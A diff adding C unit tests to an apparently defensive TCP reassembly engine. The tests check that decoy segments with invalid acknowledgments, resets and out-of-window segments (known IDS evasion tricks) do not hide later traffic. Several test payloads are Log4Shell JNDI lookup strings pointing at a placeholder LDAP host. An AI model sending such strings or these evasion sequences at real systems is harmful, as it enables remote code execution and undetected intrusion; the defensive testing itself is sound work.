@@ -507,6 +507,72 @@ static void acknowledgment_before_its_data(void **state)
     assert_int_equal(counters[COUNT_STREAM_GAPS], 0);
 }
 
+/* A host that waits for the end of the handshake resets what acknowledges anything else, with that very
+ * number, and goes on waiting: neither the decoy nor the reset may count. */
+static void acknowledgment_that_no_handshake_has(void **state)
+{
+    static const uint32_t wrong[] = {1, 77, 1048576, UINT32_C(0x7fffffff), UINT32_MAX};
+
+    (void)state;
+    for (size_t i = 0; i < sizeof wrong / sizeof *wrong; i++) {
+        struct talk t = talk_new(4);
+
+        talk_clear();
+        send(&t, 0, SYN, t.seq[0]++, 0, NULL);
+        send(&t, 1, SYN | ACK, t.seq[1]++, t.seq[0], NULL);
+        send(&t, 0, ACK, t.seq[0], t.seq[1] + wrong[i], "GET /decoy");
+        send(&t, 1, RST, t.seq[1] + wrong[i], 0, NULL);
+        talk_ack(&t, 0);
+        talk_say(&t, 0, "GET /${jndi:ldap://x/a}");
+        assert_int_equal(talk_n_heard(), 1);
+        assert_true(talk_is(talk_heard(0), 0, "GET /${jndi:ldap://x/a}"));
+        assert_int_equal(talk_n_anomalies(ANOMALY_INVALID_ACK), 1);
+    }
+}
+
+/* Nor does a segment outside the window of the SYN's answer end the handshake. */
+static void segment_that_ends_no_handshake(void **state)
+{
+    static const int32_t outside[] = {-1, -1000, 9000};
+
+    (void)state;
+    for (size_t i = 0; i < sizeof outside / sizeof *outside; i++) {
+        struct talk t = talk_new(4);
+
+        talk_clear();
+        t.window = 8000;
+        send(&t, 0, SYN, t.seq[0]++, 0, NULL);
+        send(&t, 1, SYN | ACK, t.seq[1]++, t.seq[0], NULL);
+        send(&t, 0, ACK, t.seq[0] + (uint32_t)outside[i], t.seq[1], NULL);
+        talk_ack(&t, 1);
+        send(&t, 0, ACK, t.seq[0], t.seq[1] + 77, "GET /decoy");
+        send(&t, 1, RST, t.seq[1] + 77, 0, NULL);
+        talk_ack(&t, 0);
+        talk_say(&t, 0, "GET /${jndi:ldap://x/a}");
+        assert_true(talk_is(talk_heard(0), 0, "GET /${jndi:ldap://x/a}"));
+        assert_int_equal(talk_n_heard(), 1);
+    }
+}
+
+/* The same number is right when what the server said was lost on its way to us. */
+static void greeting_that_was_lost(void **state)
+{
+    struct talk t = talk_new(4);
+
+    (void)state;
+    send(&t, 0, SYN, t.seq[0]++, 0, NULL);
+    send(&t, 1, SYN | ACK, t.seq[1]++, t.seq[0], NULL);
+    t.seq[1] += 40; /* with the acknowledgment of it */
+    talk_say(&t, 0, "EHLO ${jndi:ldap://x/a}\r\n");
+    talk_ack(&t, 1);
+    talk_say(&t, 0, "MAIL FROM:<a@b>");
+    talk_say(&t, 1, "250 ok");
+    talk_now_us += 200000;
+    stream_tick(talk_stream, talk_now_us);
+    assert_true(talk_other_has(talk_heard(0), 0, "EHLO ${jndi:ldap://x/a}"));
+    assert_true(talk_is(talk_heard(0), 0, "MAIL FROM:<a@b>"));
+}
+
 static void both_open_at_once(void **state)
 {
     struct talk t = talk_new(4);
@@ -699,6 +765,9 @@ int main(void)
         TEST(window_is_scaled_when_both_offer_it),
         TEST(window_update_lost),
         TEST(acknowledgment_before_its_data),
+        TEST(acknowledgment_that_no_handshake_has),
+        TEST(segment_that_ends_no_handshake),
+        TEST(greeting_that_was_lost),
         TEST(both_open_at_once),
         TEST(data_in_the_answer_to_a_syn),
         TEST(more_than_four_gigabytes),
